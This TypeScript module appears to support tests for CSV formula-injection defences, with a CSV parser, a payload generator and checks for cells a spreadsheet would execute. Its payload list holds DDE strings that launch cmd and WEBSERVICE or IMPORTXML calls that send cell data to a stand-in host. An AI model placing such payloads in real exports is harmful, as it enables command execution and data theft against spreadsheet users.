/** Parses CSV by RFC 4180, independently of the product on purpose. */
export function readCsvText(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let isQuoted = false;
  const endCell = (): void => {
    record.push(cell);
    cell = '';
  };
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at] ?? '';
    if (isQuoted) {
      if (char !== '"') cell += char;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (char === '"' && cell === '') isQuoted = true;
    else if (char === ',') endCell();
    else if (char === '\r' && text[at + 1] === '\n') {
      endCell();
      records.push(record);
      record = [];
      at += 1;
    } else cell += char;
  }
  if (cell !== '' || record.length > 0) {
    endCell();
    records.push(record);
  }
  return records;
}

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const COMMANDS = [
  ...[
    'SUM(1+1)*cmd|" /C calc"!A0',
    'HYPERLINK("http://e.invalid","x")',
    'WEBSERVICE("http://e.invalid/"&A1)',
  ],
  ...[
    '1+1',
    'cmd|" /C notepad"!"A1"',
    'IMPORTXML("http://e.invalid","//a")',
    '2+5+cmd|"/C calc"!A0',
    '"a",b',
  ],
  ...['DDE("cmd";"/C calc";"x")'],
];

/** Returns 100 texts that a spreadsheet would run, each with its number. */
export function formulaPayloads(count: number): readonly string[] {
  const blanks = ['', ' ', "'", "' ", ';', 'x; ', ";'", ';"'];
  return Array.from({ length: count }, (_item, index) => {
    const start = STARTS[index % STARTS.length] ?? '=';
    const blank = blanks[Math.floor(index / STARTS.length) % blanks.length] ?? '';
    return `${blank}${start}${COMMANDS[index % COMMANDS.length] ?? ''} ${index}`;
  });
}

/**
 * Returns the cells a spreadsheet would run if it splits at semicolons and recognizes quotes only at the
 * start of a cell.
 */
export function liveBehindSemicolons(text: string): readonly string[] {
  return text
    .split(/\r\n|;/)
    .map((cell) => cell.replace(/^[\s"]+/, ''))
    .filter((cell) => cell !== '' && STARTS.includes(cell[0] ?? '') && !/^[+-]?\d+(\.\d+)?$/.test(cell));
}

/** Whether a spreadsheet would run a cell. Signed numbers are harmless. */
export function isLiveFormula(cell: string): boolean {
  if (/^[+-]?\d+(\.\d+)?$/.test(cell)) return false;
  const first = cell.trimStart().replace(/^\uFEFF/, '')[0] ?? '';
  return STARTS.includes(cell[0] ?? '') || STARTS.includes(first);
}
